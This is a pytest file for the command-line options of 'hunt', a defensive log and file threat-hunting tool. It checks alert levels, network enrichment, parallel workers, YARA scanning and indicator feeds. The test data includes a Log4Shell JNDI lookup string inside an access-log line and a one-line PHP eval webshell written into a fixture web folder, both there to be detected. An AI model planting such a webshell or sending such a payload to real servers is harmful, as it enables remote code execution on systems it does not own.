"""Options of `hunt`; what it finds in real logs is tried in ``tests/end_to_end``."""

import json
from pathlib import Path

import pytest

from tests.cli.conftest import Run

ACCESS = '192.0.2.9 - - [02/Mar/2026:06:00:00 +0700] "GET /?q=${jndi:ldap://203.0.113.1/a} HTTP/1.1" 400 9 "-" "-"\n'


@pytest.fixture
def log(tmp_path: Path) -> Path:
    path = tmp_path / "access.log"
    path.write_text(ACCESS)
    return path


def test_a_table_for_people_and_what_was_gone_through(run: Run, log: Path) -> None:
    done = run("hunt", log)
    assert done.code == 0
    assert "Log4Shell" in done.out
    assert "1 lines of 1 files" in done.err


def test_a_level_can_be_asked_for(run: Run, log: Path) -> None:
    assert run("hunt", "--json", "--min-level", "critical", log).out == ""
    assert run("hunt", "--json", "--min-level", "high", log).out


def test_alerts_tell_what_is_known_of_hosts_and_addresses(run: Run, log: Path, tmp_path: Path) -> None:
    (alert,) = map(json.loads, run("hunt", "--json", log).out.splitlines())
    assert alert["context"] == {"src_ip": [{"address": "192.0.2.9", "internal": False}]}
    (tmp_path / "config.yaml").write_text(
        "networks: [{name: dmz, cidrs: [192.0.2.0/24]}]\nenrichment: {city_mmdb: none.mmdb}\n"
    )
    done = run("hunt", "--json", log)
    (alert,) = map(json.loads, done.out.splitlines())
    assert alert["context"] == {"src_ip": [{"address": "192.0.2.9", "internal": True, "network": "dmz"}]}
    assert done.err.count("none.mmdb") == 1


def test_without_any_rule_it_says_what_to_do(run: Run, log: Path, tmp_path: Path) -> None:
    (tmp_path / "none").mkdir()
    done = run("hunt", "--no-builtin", "--rules", tmp_path / "none", log)
    assert done.code == 2
    assert "rules" in done.err


def test_files_that_are_no_logs_are_scanned(run: Run, tmp_path: Path) -> None:
    """A webshell among the files of a web server is found by YARA, by its place and its hash."""
    www = tmp_path / "www"
    www.mkdir()
    (www / "index.html").write_text("<h1>Cổng thông tin</h1>\n")
    (www / "x.php").write_text("<?php @eval(base64_decode($_POST['c'])); ?>\n")
    found = [json.loads(line) for line in run("hunt", "--json", www).out.splitlines()]
    assert found
    assert {entity for alert in found for entity in alert["entities"]["file"]} == {str(www / "x.php")}
    assert all(len(alert["entities"]["hash"][0]) == 64 for alert in found)


def test_a_folder_that_does_not_hold_anything(run: Run, tmp_path: Path) -> None:
    (tmp_path / "empty").mkdir()
    done = run("hunt", tmp_path / "empty")
    assert done.code == 2
    assert "empty" in done.err


def test_several_workers_find_the_same(run: Run, tmp_path: Path) -> None:
    """To the byte, over files whose windows reach from one into the next."""
    logs = tmp_path / "logs"
    logs.mkdir()
    line = "Mar  2 06:{:02}:{:02} web01 sshd[7]: Failed password for root from 203.0.113.{} port 5 ssh2\n"
    for number in range(4):
        (logs / f"auth{number}.log").write_text(
            "".join(line.format(number, second, second % 3) for second in range(60))
        )
    (logs / "access.log").write_text(ACCESS * 50)
    alone, together = run("hunt", "--json", logs), run("hunt", "--json", "--workers", "3", logs)
    assert alone.out == together.out
    assert len(alone.out.splitlines()) > 3
    assert run("hunt", "--json", "--workers", "auto", logs).out == alone.out


@pytest.mark.parametrize("value", ["many", "-1", "1000000"])
def test_a_number_of_workers_that_is_none(run: Run, log: Path, value: str) -> None:
    done = run("hunt", "--workers", value, log)
    assert done.code == 2
    assert value in done.err


def test_lists_of_indicators_are_looked_for(run: Run, tmp_path: Path) -> None:
    (tmp_path / "feed.csv").write_text(
        "ip,source,tlp,expires\n198.51.100.7,NCSC,amber+strict,\n198.51.100.8,old,green,2020-01-01\n10.0.0.1,x,green,\n"
    )
    flows = [{"_path": "conn", "ts": 1.5, "id.orig_h": "10.0.0.5", "id.resp_h": f"198.51.100.{n}"} for n in (6, 7, 8)]
    log = tmp_path / "conn.log"
    log.write_text("".join(json.dumps(flow) + "\n" for flow in flows))
    feed = ("--indicators", tmp_path / "feed.csv")
    done = run("hunt", "--json", "--no-builtin", *feed, log)
    (alert,) = map(json.loads, done.out.splitlines())
    assert (alert["level"], alert["line"]) == ("high", 2)
    assert alert["indicator"]["value"] == "198.51.100.7"
    assert (alert["indicator"]["source"], alert["indicator"]["tlp"]) == ("NCSC", "amber+strict")
    assert "feed.csv:4: `10.0.0.1`" in done.err
    shown = run("hunt", "--no-builtin", *feed, log).out
    assert "198.51.100.7" in shown
    assert "TLP:AMBER+STRICT" in shown
    assert len(run("hunt", "--json", "--no-builtin", *feed, "--expired-indicators", log).out.splitlines()) == 2
    assert run("hunt", "--json", "--no-builtin", *feed, "--workers", "2", log).out == done.out
